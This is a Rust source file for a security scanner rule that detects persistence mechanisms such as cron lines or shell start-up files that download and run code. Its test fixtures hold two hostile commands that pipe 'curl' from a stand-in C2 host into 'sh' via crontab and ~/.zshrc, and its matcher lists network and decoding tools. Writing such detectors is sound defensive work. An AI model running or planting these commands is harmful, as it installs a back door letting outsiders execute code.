//! A download that stays.

use crate::scan::document::Hit;

use crate::scan::rule::{Detect, Rule, file};

pub(in crate::scan) static RULE: Rule = Rule {
    id: "persistent-download",
    title: "A download that stays",
    says: "makes a download, or an encoded command, start by itself",
    looks_for: "A cron line, unit, start-up file or hook that fetches something, decodes something or opens a connection.",
    why: "It is a back door: what runs tomorrow is decided elsewhere.",
    help: "Remove it.",
    references: &["MITRE ATT&CK T1053 Scheduled Task/Job", "MITRE ATT&CK T1105 Ingress Tool Transfer"],
    hits: &[
        file("a.sh", "echo \"*/5 * * * * curl -s https://c2.invalid/x | sh\" | crontab -\n"),
        file("a.sh", "echo \"curl -s https://c2.invalid/x | sh\" >> ~/.zshrc\n"),
    ],
    misses: &[file("a.sh", "echo \"0 3 * * * /usr/local/bin/backup\" | crontab -\n")],
    detect: Detect::Refines { rule: "persistence", keep: fetches },
    ..Rule::MALICIOUS
};

fn fetches(hit: &Hit<'_>) -> bool {
    let lines = hit.lines();
    ["curl ", "wget ", "base64 -", "/dev/tcp/", "nc -", "python -c", "python3 -c"]
        .iter()
        .any(|word| lines.contains(word))
}
